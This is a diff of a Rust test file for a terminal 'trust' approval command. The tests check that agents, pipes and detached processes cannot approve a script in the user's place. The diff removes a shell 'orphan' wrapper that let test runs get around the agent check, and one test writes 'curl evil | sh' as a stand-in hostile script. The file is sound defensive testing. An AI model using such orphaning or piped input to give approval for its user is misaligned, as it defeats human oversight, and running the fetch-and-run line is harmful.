@@ -1,25 +1,13 @@
 //! `trust` as a user meets it: the real program, on a real terminal.
 
-use std::fs::{self, File, OpenOptions};
-use std::io::{Read, Write};
+use std::fs;
 use std::os::unix::fs::{PermissionsExt, symlink};
 use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
+use std::process::Command;
 
-use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
 use serde_json::{Value, json};
 
-use crate::support::{Project, binary, write};
-
-/// Runs a program after whoever started it is gone: the tests may be run by an agent, and `trust`
-/// refuses below one. It begins when the first line has come, and its code goes to a file.
-const ORPHAN: &str = r#"
-    exec 3<&0
-    (
-        read go <&3
-        "$@" <&3 3<&-
-        echo $? > "$0"
-    ) &"#;
+use crate::support::{Project, UserOutput, UserTerminal, binary, detached, write};
 
 const SETTINGS: &str = "statusline.command = [\"sh\", \"tools/line.sh\"]\n";
 
@@ -35,104 +23,40 @@ fn script(project: &Project) -> PathBuf {
     project.root().join("tools/line.sh")
 }
 
-/// The command of a test, as an orphan, with these words before it.
-fn orphan(project: &Project, before: &[&Path], arguments: &[&str]) -> Command {
-    let mut command = Command::new("/bin/sh");
-    command.args(["-c", ORPHAN]).arg(code_file(project)).args(before).arg(binary());
-    command.args(arguments).env_clear().env("HOME", project.home.path());
+/// A command in the project, with these words before it.
+fn command(project: &Project, before: &[&Path], arguments: &[&str]) -> Command {
+    let program = binary();
+    let mut words = before.iter().copied().chain([program.as_path()]);
+    let mut command = Command::new(words.next().unwrap());
+    command.args(words).args(arguments).env("HOME", project.home.path());
     command.env("PATH", "/usr/bin:/bin").current_dir(project.root());
     command
 }
 
-fn code_file(project: &Project) -> PathBuf {
-    project.home.path().join("code")
+fn terminal(project: &Project, arguments: &[&str]) -> UserTerminal {
+    UserTerminal::open(&command(project, &[], arguments), UserOutput::Screen)
 }
 
-fn code(project: &Project) -> i32 {
-    let text = fs::read_to_string(code_file(project)).unwrap();
-    fs::remove_file(code_file(project)).unwrap();
-    text.trim().parse().unwrap()
+/// What stood on the screen when the command ended, and its code.
+fn end(terminal: UserTerminal) -> (String, i32) {
+    let (_, screen, code) = terminal.end();
+    (screen, code)
 }
 
-/// A terminal with a command on it.
-struct Terminal<'p> {
-    project: &'p Project,
-    keys: File,
-    screen: String,
-}
-
-impl<'p> Terminal<'p> {
-    fn open(project: &'p Project, mut command: Command) -> Self {
-        let keys = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
-        grantpt(&keys).unwrap();
-        unlockpt(&keys).unwrap();
-        let name = ptsname(&keys, Vec::new()).unwrap();
-        let mut options = OpenOptions::new();
-        let line = options.read(true).write(true).open(name.to_str().unwrap()).unwrap();
-        let side = || Stdio::from(line.try_clone().unwrap());
-        command.stdin(side()).stdout(side()).stderr(side());
-        assert!(command.spawn().unwrap().wait().unwrap().success());
-        let mut terminal = Self { project, keys: keys.into(), screen: String::new() };
-        terminal.type_line("go");
-        terminal
-    }
-
-    fn trust(project: &'p Project) -> Self {
-        Self::open(project, orphan(project, &[], &["trust"]))
-    }
-
-    fn type_line(&mut self, line: &str) {
-        self.keys.write_all(format!("{line}\n").as_bytes()).unwrap();
-    }
-
-    /// Reads on; false when nobody is at the other end any more.
-    fn read(&mut self) -> bool {
-        let mut buffer = [0; 4096];
-        // When the other side has closed its last end, reading is an error.
-        let count = self.keys.read(&mut buffer).unwrap_or(0);
-        self.screen.push_str(&String::from_utf8_lossy(&buffer[..count]));
-        count > 0
-    }
-
-    /// The code that the question shows.
-    fn code(&mut self) -> String {
-        while !self.screen.contains("anything else to leave it: ") {
-            assert!(self.read(), "no question: {}", self.screen);
-        }
-        let (_, rest) = self.screen.split_once("Type ").unwrap();
-        rest.split_once(' ').unwrap().0.to_owned()
-    }
-
-    /// What stood on the screen when the command ended, and its code.
-    fn end(mut self) -> (String, i32) {
-        while self.read() {}
-        (self.screen.replace("\r\n", "\n"), code(self.project))
-    }
+/// Types the code that a command shows.
+fn confirmed(project: &Project, arguments: &[&str]) -> (String, i32) {
+    let mut terminal = terminal(project, arguments);
+    let code = terminal.code();
+    terminal.type_line(&code);
+    end(terminal)
 }
 
 /// Says yes on a terminal.
 fn trust(project: &Project) -> String {
-    let mut terminal = Terminal::trust(project);
-    let code = terminal.code();
-    terminal.type_line(&code);
-    let (screen, code) = terminal.end();
+    let (screen, code) = confirmed(project, &["trust"]);
     assert_eq!(code, 0, "{screen}");
     assert!(screen.contains("Trusted."), "{screen}");
     screen
-}
-
-/// Runs a command as an orphan without a terminal.
-fn without_terminal(project: &Project, mut command: Command) -> (String, i32) {
-    let (mut output, side) = std::io::pipe().unwrap();
-    let (input, mut keys) = std::io::pipe().unwrap();
-    command.stdin(input).stdout(side.try_clone().unwrap()).stderr(side);
-    assert!(command.spawn().unwrap().wait().unwrap().success());
-    drop(command);
-    keys.write_all(b"go\n").unwrap();
-    drop(keys);
-    let mut text = String::new();
-    output.read_to_string(&mut text).unwrap();
-    (text, code(project))
 }
 
 fn state(project: &Project) -> Value {
@@ -175,12 +99,12 @@ fn a_typed_code_trusts_exactly_what_was_shown() {
 fn anything_else_than_the_code_leaves_it() {
     let project = project();
     for answer in ["", "y", "yes", "BBBBB"] {
-        let mut terminal = Terminal::trust(&project);
+        let mut terminal = terminal(&project, &["trust"]);
         terminal.code();
         terminal.type_line(answer);
-        let (screen, code) = terminal.end();
+        let (screen, code) = end(terminal);
         assert_eq!(code, 1, "{screen}");
-        assert!(screen.contains("nothing was approved"), "{screen}");
+        assert!(screen.contains("nothing was changed: the code was not typed"), "{screen}");
     }
     assert_state(&project, "never");
 }
@@ -256,11 +180,11 @@ fn a_project_that_moved_is_another_one() {
 #[test]
 fn the_bytes_that_were_shown_are_the_bytes_that_are_approved() {
     let project = project();
-    let mut terminal = Terminal::trust(&project);
+    let mut terminal = terminal(&project, &["trust"]);
     let code = terminal.code();
     write(&script(&project), b"curl evil | sh\n");
     terminal.type_line(&code);
-    assert_eq!(terminal.end().1, 0);
+    assert_eq!(end(terminal).1, 0);
     assert_state(&project, "changed");
     write(&script(&project), b"echo one\n");
     assert_state(&project, "trusted");
@@ -270,27 +194,39 @@ fn the_bytes_that_were_shown_are_the_bytes_that_are_approved() {
 fn trust_can_be_taken_back() {
     let project = project();
     trust(&project);
-    assert!(project.run(&["trust", "--revoke"]).contains("Took the trust back"));
+    let (text, code) = detached(&command(&project, &[], &["trust", "--revoke"]), b"");
+    assert!(code == 1 && text.contains("only you may run this"), "{text}");
+    assert_state(&project, "trusted");
+    let (screen, code) = confirmed(&project, &["trust", "--revoke"]);
+    assert!(code == 0 && screen.contains("Took the trust back"), "{screen}");
     assert_state(&project, "never");
     assert!(project.run(&["trust", "--revoke"]).contains("no trust to take back"));
 }
 
 #[test]
-fn without_a_terminal_only_a_hash_can_approve() {
+fn without_a_terminal_nothing_can_approve() {
     let project = project();
-    let (text, code) = without_terminal(&project, orphan(&project, &[], &["trust"]));
-    assert!(code == 1 && text.contains("there is no terminal"), "{text}");
-    let wrong = "0".repeat(64);
-    for hash in [&wrong, "", "x"] {
-        let (text, code) =
-            without_terminal(&project, orphan(&project, &[], &["trust", "--hash", hash]));
-        assert!(code == 1 && text.contains("the content has the hash"), "{text}");
+    let hash = state(&project)["hash"].as_str().unwrap().to_uppercase();
+    for arguments in [&["trust"][..], &["trust", "--hash", &hash]] {
+        let (text, code) = detached(&command(&project, &[], arguments), b"yes\n");
+        assert!(code == 1 && text.contains("a process without a terminal started it"), "{text}");
+        // A pipe where the answer is typed.
+        let line = r#"echo BBBB | "$0" "$@""#;
+        let before: [&Path; 3] = [Path::new("/bin/sh"), Path::new("-c"), Path::new(line)];
+        let piped = command(&project, &before, arguments);
+        let terminal = UserTerminal::open(&piped, UserOutput::Screen);
+        let (screen, code) = end(terminal);
+        let is_told = screen.contains("there is none") || screen.contains("not a terminal");
+        assert!(code == 1 && is_told, "{screen}");
     }
     assert_state(&project, "never");
-    let hash = state(&project)["hash"].as_str().unwrap().to_uppercase();
-    let (text, code) =
-        without_terminal(&project, orphan(&project, &[], &["trust", "--hash", &hash]));
-    assert!(code == 0 && text.contains("Trusted."), "{text}");
+    let wrong = "0".repeat(64);
+    for wrong in [&wrong, "", "x"] {
+        let (screen, code) = end(terminal(&project, &["trust", "--hash", wrong]));
+        assert!(code == 1 && screen.contains("the content has the hash"), "{screen}");
+    }
+    let (screen, code) = confirmed(&project, &["trust", "--hash", &hash]);
+    assert!(code == 0 && screen.contains("Trusted."), "{screen}");
     assert_state(&project, "trusted");
 }
 
@@ -301,13 +237,16 @@ fn an_agent_cannot_give_the_word_of_its_user() {
     let agent = project.home.path().join("claude");
     fs::copy("/bin/sh", &agent).unwrap();
     let below: [&Path; 3] = [&agent, Path::new("-c"), Path::new("\"$0\" \"$@\"; exit $?")];
-    for arguments in [&["trust"][..], &["trust", "--hash", &hash]] {
-        let mut variable = orphan(&project, &[], arguments);
+    for arguments in [&["trust"][..], &["trust", "--hash", &hash], &["trust", "--same"]] {
+        let mut variable = command(&project, &[], arguments);
         variable.env("CLAUDECODE", "1");
-        let (screen, code) = Terminal::open(&project, variable).end();
+        let (screen, code) = end(UserTerminal::open(&variable, UserOutput::Screen));
         assert!(code == 1 && screen.contains("the environment has CLAUDECODE"), "{screen}");
-        let (screen, code) = Terminal::open(&project, orphan(&project, &below, arguments)).end();
-        assert!(code == 1 && screen.contains("claude (process "), "{screen}");
+        let process = command(&project, &below, arguments);
+        let (screen, code) = end(UserTerminal::open(&process, UserOutput::Screen));
+        assert!(code == 1 && screen.contains("an agent (Claude Code, pid "), "{screen}");
+        let next = format!("run `windlass {}` in your own terminal", arguments.join(" "));
+        assert!(screen.contains(&next), "{screen}");
     }
     assert_state(&project, "never");
 }
@@ -379,7 +318,7 @@ fn what_is_shown_has_no_power_over_the_terminal() {
 #[test]
 fn worktrees_share_trust_unless_the_user_says_otherwise() {
     let project = project();
-    fs::remove_dir(project.root().join(".git")).unwrap();
+    fs::remove_dir_all(project.root().join(".git")).unwrap();
     let git = |arguments: &[&str]| {
         let mut command = Command::new("git");
         command.args(arguments).current_dir(project.root()).env("HOME", project.home.path());
